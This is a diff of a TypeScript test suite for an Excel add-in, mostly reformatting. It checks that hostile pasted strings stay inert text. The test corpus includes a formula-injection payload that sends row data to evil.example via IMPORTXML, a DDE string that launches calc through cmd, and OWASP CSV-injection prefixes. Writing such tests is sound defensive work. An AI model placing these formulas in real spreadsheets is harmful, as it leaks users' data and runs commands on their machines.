@@ -39,22 +39,43 @@ export const HOSTILE = [
   "TRUE",
   "#N/A",
   "=SUM(A1",
-  "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
+  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
 ];
 
-const write = (excel: FakeExcel, spec: WorkbookSpec) => excel.run((ctx) => applyWorkbookSpec(ctx as unknown as Excel.RequestContext, spec));
+const write = (excel: FakeExcel, spec: WorkbookSpec) =>
+  excel.run((ctx) => applyWorkbookSpec(ctx as unknown as Excel.RequestContext, spec));
 
 function sheetOf(cells: (CellSpec | null)[][]): WorkbookSpec {
-  return { sheets: [{ name: "Pasted", role: "data", generated: false, blocks: [{ row: 0, col: 0, cells }], tables: [], conditionalFormats: [], charts: [] }] };
+  return {
+    sheets: [
+      {
+        name: "Pasted",
+        role: "data",
+        generated: false,
+        blocks: [{ row: 0, col: 0, cells }],
+        tables: [],
+        conditionalFormats: [],
+        charts: [],
+      },
+    ],
+  };
 }
 
 describe("hostile text", () => {
   it("every string of the corpus reads back as the same text, and negative numbers stay numbers", async () => {
-    const cells = HOSTILE.map((text, i) => [{ text }, { number: -(i + 1) / 4, numFmt: "0.00" }, { formula: `B${i + 1}*2` }]);
+    const cells = HOSTILE.map((text, i) => [
+      { text },
+      { number: -(i + 1) / 4, numFmt: "0.00" },
+      { formula: `B${i + 1}*2` },
+    ]);
     const excel = new FakeExcel();
     await write(excel, sheetOf(cells));
     HOSTILE.forEach((text, i) => {
-      expect(excel.cell("Pasted", i, 0)).toMatchObject({ kind: "text", value: text, formula: null });
+      expect(excel.cell("Pasted", i, 0)).toMatchObject({
+        kind: "text",
+        value: text,
+        formula: null,
+      });
       expect(excel.cell("Pasted", i, 1)).toMatchObject({ kind: "number", value: -(i + 1) / 4 });
       expect(excel.cell("Pasted", i, 2).formula).toBe(`=B${i + 1}*2`);
     });
@@ -66,7 +87,8 @@ describe("hostile text", () => {
     const [offences, calls] = mertonAugust();
     offences!.rows.forEach((r, i) => {
       r.category = HOSTILE[i % HOSTILE.length]!;
-      if (r.subcategory !== null && r.subcategory !== "Total") r.subcategory = HOSTILE[(i + 7) % HOSTILE.length]!;
+      if (r.subcategory !== null && r.subcategory !== "Total")
+        r.subcategory = HOSTILE[(i + 7) % HOSTILE.length]!;
     });
     offences!.rows[3]!.values.offencesCurrent = null;
     offences!.rows[3]!.raw.offencesCurrent = "=cmd|' /C calc'!A0";
@@ -76,13 +98,32 @@ describe("hostile text", () => {
     // The contract fails on any formula the spec did not write.
     assertWorkbookMatchesSpec(viewFakeWorkbook(excel), spec);
     const data = spec.sheets[0]!.name;
-    const texts = [...Array(200).keys()].map((r) => excel.cell(data, r, 0)).filter((c) => c.kind === "text").map((c) => c.value);
+    const texts = [...Array(200).keys()]
+      .map((r) => excel.cell(data, r, 0))
+      .filter((c) => c.kind === "text")
+      .map((c) => c.value);
     expect(texts).toEqual(expect.arrayContaining(HOSTILE.slice(0, 10)));
   });
 
   it("any string at all (10,000 generated, OWASP prefixes and Excel-looking ones included) stays text", async () => {
-    const prefix = fc.constantFrom("", "=", "+", "-", "@", "\t", "\r", "'", "=cmd|", "+1", "-1", "1,", "2017-09-");
-    const text = fc.tuple(prefix, fc.string({ unit: "binary", maxLength: 40 })).map(([p, s]) => p + s);
+    const prefix = fc.constantFrom(
+      "",
+      "=",
+      "+",
+      "-",
+      "@",
+      "\t",
+      "\r",
+      "'",
+      "=cmd|",
+      "+1",
+      "-1",
+      "1,",
+      "2017-09-"
+    );
+    const text = fc
+      .tuple(prefix, fc.string({ unit: "binary", maxLength: 40 }))
+      .map(([p, s]) => p + s);
     const batches = fc.array(text, { minLength: 100, maxLength: 100 });
     let total = 0;
     await fc.assert(
@@ -96,7 +137,7 @@ describe("hostile text", () => {
           else expect(c).toMatchObject({ kind: "text", value: t, formula: null });
         });
       }),
-      { numRuns: 100, seed: 20171005 },
+      { numRuns: 100, seed: 20171005 }
     );
     expect(total).toBe(10_000);
   });
